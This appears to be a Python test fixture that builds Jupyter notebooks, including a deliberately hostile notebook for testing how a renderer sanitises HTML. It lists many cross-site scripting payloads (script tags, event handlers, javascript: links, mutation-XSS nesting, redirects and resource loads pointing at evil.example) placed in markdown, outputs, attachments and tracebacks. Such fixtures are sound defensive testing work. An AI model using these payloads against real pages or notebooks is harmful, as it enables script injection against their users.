"""Notebooks to try things with, among them what a student who means harm would hand in."""

from typing import Any

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
ALERT = "alert('owned')"


def code(source: str, *outputs: dict[str, Any], **fields: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "source": source,
        "metadata": {},
        "outputs": list(outputs),
        "execution_count": 1,
        **fields,
    }


def markdown(source: str, **fields: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "source": source, "metadata": {}, **fields}


def shows(**forms: Any) -> dict[str, Any]:
    """An output; `text_html` stands for `text/html`."""
    data = {name.replace("_", "/", 1).replace("__", "+"): text for name, text in forms.items()}
    return {"output_type": "display_data", "data": data, "metadata": {}}


def prints(text: str) -> dict[str, Any]:
    return {"output_type": "stream", "name": "stdout", "text": text}


def notebook(*cells: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": list(cells)}


HOSTILE_HTML = [
    f"<script>{ALERT}</script>",
    f'<script src="https://evil.example/x.js"></script><img src=x onerror="{ALERT}">',
    f'<svg onload="{ALERT}"><script>{ALERT}</script><a xlink:href="javascript:{ALERT}"><text>x</text></a></svg>',
    f'<iframe srcdoc="<script>{ALERT}</script>"></iframe><iframe src="javascript:{ALERT}"></iframe>',
    f'<a href="javascript:{ALERT}">a</a><a href="JaVaScRiPt&colon;{ALERT}">b</a><a href="https://evil.example/">c</a>',
    f'<form action="https://evil.example/"><input name=q autofocus onfocus="{ALERT}"><button>Log in</button></form>',
    "<style>body{background:url(https://evil.example/css)}</style><p style=\"background:url('https://evil.example/p')\">",
    '<link rel=stylesheet href="https://evil.example/l.css"><base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/"><object data="https://evil.example/o"></object>',
    '<img src="https://evil.example/pixel.png"><img src="//evil.example/p" srcset="https://evil.example/s 1x">',
    f'<img src="data:text/html,<script>{ALERT}</script>"><img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    f'<video src="https://evil.example/v" onerror="{ALERT}"></video><audio src="https://evil.example/a" ></audio>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{ALERT}"></style></mglyph></table></mtext></math>',
    f'<noscript><p title="</noscript><img src=x onerror={ALERT}>"></noscript>',
    "</div></div></div></div></body></html><p>outside?</p>",
    '<table background="https://evil.example/t"><tr><td background="https://evil.example/d">1</table>',
]

HOSTILE = notebook(
    *(markdown(html) for html in HOSTILE_HTML),
    *(code("x", shows(text_html=html, text_plain="plain")) for html in HOSTILE_HTML),
    markdown(f"[link](javascript:{ALERT}) ![x](https://evil.example/md.png) <https://evil.example/auto>"),
    markdown("![x](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": f"<svg onload={ALERT}>"}}),
    markdown('![" onerror="alert(1)](attachment:a.png)', attachments={"a.png": {"image/png": '"><script>'}}),
    code("x", shows(application_javascript=ALERT, text_plain="<IPython.core.display.Javascript object>")),
    code("x", shows(image_svg__xml=f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ALERT}"/>')),
    code("x", shows(**{"application_vnd.jupyter.widget-view__json": {"model_id": "1"}, "text_plain": "IntSlider()"})),
    code("x", shows(image_png=f'"><script>{ALERT}</script>', text_plain="bad picture")),
    code("x", shows(text_markdown=f"<script>{ALERT}</script> **bold**")),
    code("x", shows(text_latex=f"$x$ <script>{ALERT}</script>")),
    code(f"</pre><script>{ALERT}</script>", prints(f"\x1b[31m<script>{ALERT}</script>\x1b]8;;javascript:{ALERT}\x07")),
    code("x", {"output_type": "error", "ename": "<script>", "evalue": "v", "traceback": [f"<script>{ALERT}</script>"]}),
    {"cell_type": "raw", "source": f"<script>{ALERT}</script>", "metadata": {"format": "text/html"}},
)
